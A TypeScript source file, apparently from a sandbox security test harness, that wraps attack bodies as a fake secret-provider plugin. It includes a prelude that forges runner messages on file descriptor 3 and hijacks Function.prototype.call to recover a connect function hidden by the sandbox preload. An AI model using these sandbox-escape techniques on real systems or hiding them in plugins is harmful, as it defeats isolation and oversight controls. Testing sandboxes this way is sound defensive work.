/** What stands before the body of each attack. Text, because it runs as a module of its own in the sandbox. */
const prelude = String.raw`
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
const fs = require('node:fs');
const net = require('node:net');

// raw bytes to the host, as if the runner had sent them
const frame = (header, lengths = [Buffer.byteLength(header), 0]) => {
  const prefix = Buffer.alloc(8);
  prefix.writeUInt32BE(lengths[0], 0);
  prefix.writeUInt32BE(lengths[1], 4);
  return Buffer.concat([prefix, Buffer.from(header)]);
};
const send = (bytes) => { try { fs.writeSync(3, bytes); } catch {} };
const never = new Promise(() => {});

const tell = (socket, text) => new Promise((resolve, reject) => {
  socket.once('error', reject).once('connect', () => socket.end(text)).once('close', () => resolve('told')).resume();
});

// grabs the connect function that the preload hides, while the preload itself uses it
const pastPreload = (given) => {
  const { call } = Function.prototype;
  let hidden;
  Function.prototype.call = function (receiver, ...parameters) {
    if (receiver instanceof net.Socket && typeof parameters[0]?.path === 'string') hidden ??= this;
    return Reflect.apply(call, this, [receiver, ...parameters]);
  };
  const { hostname, port } = new URL(given.address);
  net.connect({ host: hostname, port }).on('error', () => {}).destroy();
  Function.prototype.call = call;
  if (!hidden) throw new Error('the hidden connect was not found');
  return (options) => Reflect.apply(hidden, new net.Socket(), [options]);
};
`;

/** The module of an attack. */
export const attackPlugin = (body: string): string => `${prelude}
const attack = async (given, context, value) => {
${body}
};

export class AttackFactory {
  create(config) {
    const given = { ...JSON.parse(config.get('given')), address: config.get('address'), token: config.get('token') };
    const attempt = async (context) => {
      try {
        return 'did: ' + String(await attack(given, context)).replaceAll('\\0', ' ').slice(0, 900);
      } catch (error) {
        return 'refused: ' + String(error?.code ?? error?.message).slice(0, 200);
      }
    };
    return {
      createSecret: async (value, context) => {
        const key = await attack(given, context, value);
        return { getProviderKey: () => key };
      },
      getSecretVersion: (id, context) => (id.getProviderKey() === 'afterwards' ? 'did: go on' : attempt(context)),
      getTtl: () => 0,
      allowsCreate: () => true,
      allowsUpdate: () => true,
      allowsDelete: () => true,
    };
  }
}
`;
